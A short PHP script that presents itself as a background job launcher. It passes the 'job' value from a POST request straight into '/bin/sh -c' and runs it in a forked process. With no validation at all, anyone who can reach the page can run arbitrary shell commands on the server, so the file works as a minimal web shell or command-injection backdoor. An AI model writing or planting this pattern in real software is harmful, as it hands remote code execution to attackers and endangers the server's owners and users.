<?php
$job = $_POST['job'] ?? 'true';
if (pcntl_fork() === 0) {
    pcntl_exec('/bin/sh', ['-c', 'nice -n 10 ' . $job]);
}
